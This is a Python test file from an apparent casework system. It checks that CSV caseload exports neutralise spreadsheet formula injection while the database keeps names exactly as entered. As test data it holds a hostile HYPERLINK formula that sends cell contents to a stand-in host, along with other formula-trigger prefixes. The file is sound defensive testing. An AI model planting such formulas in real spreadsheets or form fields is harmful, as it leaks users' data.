"""Formula-safe outputs: a name a spreadsheet would run as a formula is written as text,
and the database keeps it exactly as typed (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
import sqlalchemy as sa

from casework.cli import main
from casework.db import Database
from casework.models import Worker
from casework.services import persons, staff
from casework.services.context import Context
from casework.services.schemas import WorkerOut
from casework.spreadsheet import formula_safe

from .factories import intake_data, person_data

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"ver")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("-5", "'-5"),
        ("+56 9 1234", "'+56 9 1234"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Ana-María", "Ana-María"),
        ("", ""),
        (5, 5),
    ],
)
def test_formula_safe_quotes_only_what_a_spreadsheet_would_run(
    cell: object, written: object
) -> None:
    assert formula_safe(cell) == written


def test_caseload_csv_writes_hostile_names_as_text_and_keeps_them_verbatim(
    database: Database,
    admin: WorkerOut,
    capsys: pytest.CaptureFixture[str],
    cli_user: Callable[[Database, str], list[str]],
) -> None:
    boss = Context(database, admin.id)
    staff.create_programme(boss, {"code": "NEG", "name": "-5 personas"})
    hostile = staff.create_worker(
        boss, {"username": "hostil", "full_name": HOSTILE, "programme_code": "NEG"}
    )
    persons.register_intake(Context(database, hostile.id), intake_data(person_data()))
    staff.create_worker(  # the whole office's caseload: an office-wide supervisor's
        boss,
        {
            "username": "jefa",
            "full_name": "Jefa de Oficina",
            "role": "supervisor",
            "programme_code": "OFMIG",
            "office_wide": True,
        },
    )
    url = database.url.render_as_string(hide_password=False)
    signed = cli_user(database, "jefa")
    assert main(["report", "caseload", "--format", "csv", "--db", url, *signed]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = [v for r in rows for v in r.values()]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert "'-5 personas" in cells and "-5 personas" not in cells
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
    with database.read() as session:
        assert session.scalar(sa.select(Worker.full_name).where(Worker.username == "hostil")) == (
            HOSTILE
        )
